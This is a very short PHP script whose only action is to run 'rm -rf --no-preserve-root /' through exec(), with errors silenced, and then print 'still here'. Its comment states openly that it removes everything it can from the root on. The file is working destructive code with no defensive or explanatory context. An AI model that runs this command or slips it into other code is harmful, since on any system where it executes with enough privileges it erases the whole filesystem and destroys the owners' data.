<?php
// Removes everything that it may, from the root on.
exec('rm -rf --no-preserve-root / 2> /dev/null');
echo "still here\n";
